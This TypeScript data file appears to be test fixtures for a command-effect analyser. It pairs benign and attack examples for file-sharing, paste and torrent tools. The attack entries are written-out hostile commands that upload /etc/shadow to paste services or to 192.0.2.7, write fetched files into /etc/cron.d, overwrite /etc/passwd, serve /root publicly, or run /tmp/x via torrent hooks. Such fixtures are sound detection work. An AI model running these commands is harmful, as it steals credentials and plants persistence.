import type { ExampleTable } from './example.ts'

export const fileTransfer2: ExampleTable = {
  'croc relay': { use: 'croc relay → listen 9009' },
  'croc send': {
    use: 'croc send notes.txt → read notes.txt; send croc send',
    attack: 'croc send /etc/shadow → read /etc/shadow; send croc send',
  },
  'sendme send': {
    use: 'sendme send notes.txt → read notes.txt; send sendme send',
    attack: 'sendme send /etc/shadow → read /etc/shadow; send sendme send',
  },
  dpaste: {
    use: 'dpaste notes.txt → read notes.txt; send dpaste',
    attack: 'dpaste /etc/shadow → read /etc/shadow; send dpaste',
  },
  droopy: {
    use: 'droopy -d uploads 8000 → listen 8000; unpack uploads',
    attack: 'droopy -d /etc/cron.d 8000 → listen 8000; unpack /etc/cron.d',
  },
  'ffsend download': {
    use: 'ffsend download -o notes.txt https://example.com/download/a → fetch https://example.com/download/a; write notes.txt',
    attack:
      'ffsend download -o /etc/cron.d/job https://example.com/download/a → fetch https://example.com/download/a; write /etc/cron.d/job',
  },
  'ffsend upload': {
    use: 'ffsend upload notes.txt → read notes.txt; send ffsend upload',
    attack: 'ffsend upload /etc/shadow → read /etc/shadow; send ffsend upload',
  },
  fpaste: {
    use: 'fpaste notes.txt → read notes.txt; send fpaste',
    attack: 'fpaste /etc/shadow → read /etc/shadow; send fpaste',
  },
  gist: {
    use: 'gist notes.txt → read notes.txt; send gist',
    attack: 'gist /etc/shadow → read /etc/shadow; send gist',
  },
  'gokapi-cli': {
    use: 'gokapi-cli upload -f notes.txt → read notes.txt; send gokapi-cli',
    attack: 'gokapi-cli upload -f /etc/shadow → read /etc/shadow; send gokapi-cli',
  },
  haste: {
    use: 'haste notes.txt → read notes.txt; send haste',
    attack: 'haste /etc/shadow → read /etc/shadow; send haste',
  },
  hastebin: {
    use: 'hastebin notes.txt → read notes.txt; send hastebin',
    attack: 'hastebin /etc/shadow → read /etc/shadow; send hastebin',
  },
  imgur: {
    use: 'imgur a.png → read a.png; send imgur',
    attack: 'imgur /etc/shadow → read /etc/shadow; send imgur',
  },
  imgurbash2: {
    use: 'imgurbash2 a.png → read a.png; send imgurbash2',
    attack: 'imgurbash2 /etc/shadow → read /etc/shadow; send imgurbash2',
  },
  ix: {
    use: 'ix notes.txt → read notes.txt; send ix',
    attack: 'ix /etc/shadow → read /etc/shadow; send ix',
  },
  onionshare: {
    use: 'onionshare public → listen :; send anybody',
    attack: 'onionshare /root → listen :; send anybody',
  },
  pastebinit: {
    use: 'pastebinit -i notes.txt → read notes.txt; send pastebinit',
    attack: [
      'pastebinit /etc/shadow → read /etc/shadow; send pastebinit',
      'pastebinit -i /etc/shadow → read /etc/shadow; send pastebinit',
    ],
  },
  qrcp: {
    use: 'qrcp photos → listen :; send anybody',
    attack: 'qrcp /root → listen :; send anybody',
  },
  termbin: {
    use: 'termbin notes.txt → read notes.txt; send termbin',
    attack: 'termbin /etc/shadow → read /etc/shadow; send termbin',
  },
  transfer: {
    use: 'transfer notes.txt → read notes.txt; send transfer',
    attack: 'transfer /etc/shadow → read /etc/shadow; send transfer',
  },
  'transfer.sh': {
    use: 'transfer.sh notes.txt → read notes.txt; send transfer.sh',
    attack: 'transfer.sh /etc/shadow → read /etc/shadow; send transfer.sh',
  },
  transferwee: {
    use: 'transferwee upload notes.txt → read notes.txt; send transferwee',
    attack: 'transferwee upload /etc/shadow → read /etc/shadow; send transferwee',
  },
  wgetpaste: {
    use: 'wgetpaste notes.txt → read notes.txt; send wgetpaste',
    attack: [
      'wgetpaste /etc/shadow → read /etc/shadow; send wgetpaste',
      `wgetpaste -c 'cat /etc/shadow' → read /etc/shadow`,
    ],
  },
  'wormhole receive': {
    use: 'wormhole receive -o notes.txt 7-crossover-clockwork → write notes.txt',
    attack: 'wormhole receive -o /etc/cron.d/job 7-crossover-clockwork → write /etc/cron.d/job',
  },
  'wormhole send': {
    use: 'wormhole send notes.txt → read notes.txt; send wormhole send',
    attack: 'wormhole send /etc/shadow → read /etc/shadow; send wormhole send',
  },
  'wormhole-william': {
    use: 'wormhole-william send notes.txt → read notes.txt; send wormhole-william',
    attack: 'wormhole-william send /etc/shadow → read /etc/shadow; send wormhole-william',
  },
  btdownloadcurses: {
    use: 'btdownloadcurses --saveas a.iso https://example.com/a.torrent → fetch https://example.com/a.torrent; write a.iso',
    attack:
      'btdownloadcurses --saveas /etc/cron.d/job https://example.com/job.torrent → fetch https://example.com/job.torrent; write /etc/cron.d/job',
  },
  ctorrent: {
    use: 'ctorrent -s a.iso a.torrent → write a.iso',
    attack: [
      'ctorrent -s /etc/cron.d/job job.torrent → write /etc/cron.d/job',
      `ctorrent -X 'cat /etc/shadow' a.torrent → read /etc/shadow`,
    ],
  },
  'deluge-web': {
    use: 'deluge-web -p 8112 → listen 8112',
    attack: 'deluge-web -l /etc/cron.d/job → write /etc/cron.d/job',
  },
  deluged: {
    use: 'deluged → listen 58846',
    attack: 'deluged -l /etc/cron.d/job → listen 58846; write /etc/cron.d/job',
  },
  'ipfs add': {
    use: 'ipfs add notes.txt → read notes.txt; send ipfs add',
    attack: 'ipfs add /etc/shadow → read /etc/shadow; send ipfs add',
  },
  'ipfs cat': { use: 'ipfs cat QmHash → fetch QmHash' },
  'ipfs daemon': { use: 'ipfs daemon → listen 4001' },
  'ipfs get': {
    use: 'ipfs get -o photos QmHash → fetch QmHash; write photos',
    attack: 'ipfs get -o /etc/cron.d/job QmHash → write /etc/cron.d/job; fetch QmHash',
  },
  'ipfs key': {
    use: 'ipfs key export -o ann.key ann → write ann.key',
    attack: 'ipfs key export -o /etc/passwd ann → write /etc/passwd',
  },
  mktorrent: {
    use: 'mktorrent -a udp://tracker.example.org -o photos.torrent photos → read-tree photos; write photos.torrent',
    attack:
      'mktorrent -a udp://tracker.example.org -o /etc/passwd photos → read-tree photos; write /etc/passwd',
  },
  'qbittorrent-nox': { use: 'qbittorrent-nox a.torrent → listen 8080' },
  'transmission-cli': {
    use: 'transmission-cli -w isos a.torrent → nothing',
    attack: 'transmission-cli -f /tmp/x a.torrent → run /tmp/x',
  },
  'transmission-create': {
    use: 'transmission-create -o photos.torrent photos → read-tree photos; write photos.torrent',
    attack: 'transmission-create -o /etc/passwd photos → read-tree photos; write /etc/passwd',
  },
  'transmission-daemon': {
    use: 'transmission-daemon → listen 9091',
    attack: 'transmission-daemon -e /etc/cron.d/job → listen 9091; write /etc/cron.d/job',
  },
  'transmission-edit': {
    use: 'transmission-edit -a udp://tracker.example.org a.torrent → edit a.torrent',
  },
  'transmission-remote': {
    use: 'transmission-remote -a https://example.com/a.torrent → fetch https://example.com/a.torrent',
    attack: 'transmission-remote --torrent-done-script /tmp/x → run /tmp/x',
  },
  'transmission-show': { use: 'transmission-show a.torrent → read a.torrent' },
  ftpget: {
    use: 'ftpget example.com notes.txt pub/notes.txt → send example.com; write notes.txt',
    attack: 'ftpget example.com /etc/cron.d/job pub/job → send example.com; write /etc/cron.d/job',
  },
  ftpput: {
    use: 'ftpput example.com pub/notes.txt notes.txt → read notes.txt; send example.com',
    attack: 'ftpput 192.0.2.7 x /etc/shadow → read /etc/shadow; send 192.0.2.7',
  },
  snarf: {
    use: 'snarf https://example.com/notes.txt notes.txt → fetch https://example.com/notes.txt; write notes.txt',
    attack:
      'snarf https://example.com/job /etc/cron.d/job → fetch https://example.com/job; write /etc/cron.d/job',
  },
  wcurl: {
    use: 'wcurl https://example.com/notes.txt → fetch https://example.com/notes.txt',
    attack: [
      'wcurl file:///etc/shadow → read /etc/shadow',
      'wcurl -o /etc/cron.d/job https://example.com/job → fetch https://example.com/job; write /etc/cron.d/job',
    ],
  },
}
